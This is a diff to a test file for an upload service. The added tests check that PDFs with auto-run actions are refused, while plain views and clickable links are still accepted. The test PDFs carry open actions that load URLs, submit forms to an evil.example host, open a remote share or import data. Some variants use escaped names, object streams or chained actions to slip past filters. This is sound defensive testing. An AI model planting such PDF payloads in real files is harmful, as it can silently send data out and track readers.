@@ -280,6 +280,15 @@ describe('issue 28: uploads keep nothing but their content', () => {
     });
   })();
 
+  const uriInObjectStream = (() => {
+    // As above, an opening action that opens a web address, its type escaped (/U#52I).
+    const objects = '6 0 << /S /U#52I /URI (http://evil.example/) >>';
+    return samplePdf({
+      catalog: '/OpenAction 6 0 R',
+      extra: [stream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`, deflateSync(Buffer.from(objects)))],
+    });
+  })();
+
   it.each<[string, Buffer, string]>([
     [
       'JavaScript run on opening',
@@ -335,6 +344,64 @@ describe('issue 28: uploads keep nothing but their content', () => {
       }),
       UPLOAD_MESSAGES.pdfXfa,
     ],
+    // Issue 40: actions that reach out by themselves, as JavaScript is refused.
+    [
+      'a web address opened on opening',
+      samplePdf({ catalog: '/OpenAction << /S /URI /URI (http://evil.example/x) >>' }),
+      UPLOAD_MESSAGES.pdfAutoLink,
+    ],
+    [
+      'a form sent on opening',
+      samplePdf({
+        catalog:
+          '/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> /Flags 4 >>',
+      }),
+      UPLOAD_MESSAGES.pdfAutoLink,
+    ],
+    [
+      'an opening action held in another object (/OpenAction 6 0 R)',
+      samplePdf({
+        catalog: '/OpenAction 6 0 R',
+        extra: ['<< /Type /Action /S /URI /URI (http://evil.example/) >>'],
+      }),
+      UPLOAD_MESSAGES.pdfAutoLink,
+    ],
+    [
+      'an opening action under a hex-escaped name (/#55RI)',
+      samplePdf({ catalog: '/Open#41ction << /S /#55RI /URI (http://evil.example/) >>' }),
+      UPLOAD_MESSAGES.pdfAutoLink,
+    ],
+    ['an opening action in a compressed object stream', uriInObjectStream, UPLOAD_MESSAGES.pdfAutoLink],
+    [
+      'a web address chained after a harmless opening action (/Next)',
+      samplePdf({
+        catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example/) >> >>',
+      }),
+      UPLOAD_MESSAGES.pdfAutoLink,
+    ],
+    [
+      "a page's open action (/AA /O)",
+      samplePdf({ page: '/AA << /O << /S /URI /URI (http://evil.example/) >> >>' }),
+      UPLOAD_MESSAGES.pdfAutoLink,
+    ],
+    [
+      "the document's additional actions held in other objects (/AA 6 0 R)",
+      samplePdf({
+        catalog: '/AA 6 0 R',
+        extra: ['<< /WC 7 0 R >>', '<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>'],
+      }),
+      UPLOAD_MESSAGES.pdfAutoLink,
+    ],
+    [
+      'another file opened on opening (/GoToR)',
+      samplePdf({ catalog: '/OpenAction << /S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit] >>' }),
+      UPLOAD_MESSAGES.pdfLaunch,
+    ],
+    [
+      'form data imported on opening (/ImportData)',
+      samplePdf({ catalog: '/OpenAction << /S /ImportData /F (http://evil.example/data.fdf) >>' }),
+      UPLOAD_MESSAGES.pdfLaunch,
+    ],
   ])('refuses a PDF with %s, as a document and as an application document', async (_, pdf, message) => {
     for (const kind of ['document', 'applicantDocument']) {
       const before = await t.app.db
@@ -350,6 +417,30 @@ describe('issue 28: uploads keep nothing but their content', () => {
         .executeTakeFirstOrThrow();
       expect(Number(after.n)).toBe(Number(before.n));
     }
+  });
+
+  it.each<[string, Buffer]>([
+    ['an opening view ([page /Fit])', samplePdf({ catalog: '/OpenAction [3 0 R /Fit]' })],
+    [
+      'a go-to-page opening action whose text only mentions /S /URI',
+      samplePdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Note (\\) >> /S /URI) >>' }),
+    ],
+    [
+      'an opening view held in another object',
+      samplePdf({ catalog: '/OpenAction 6 0 R', extra: ['[3 0 R /FitH 800]'] }),
+    ],
+    [
+      'a link the reader clicks to open a web address',
+      samplePdf({
+        page: '/Annots [6 0 R]',
+        extra: [
+          '<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI (https://example.com/) >> >>',
+        ],
+      }),
+    ],
+  ])('issue 40: accepts a PDF with %s', async (_, pdf) => {
+    const res = await upload('document', 'statement.pdf', pdf, 'application/pdf');
+    expect(res.statusCode).toBe(200);
   });
 
   it('accepts a plain PDF as it came, serves it as a download, and its text still reads', async () => {
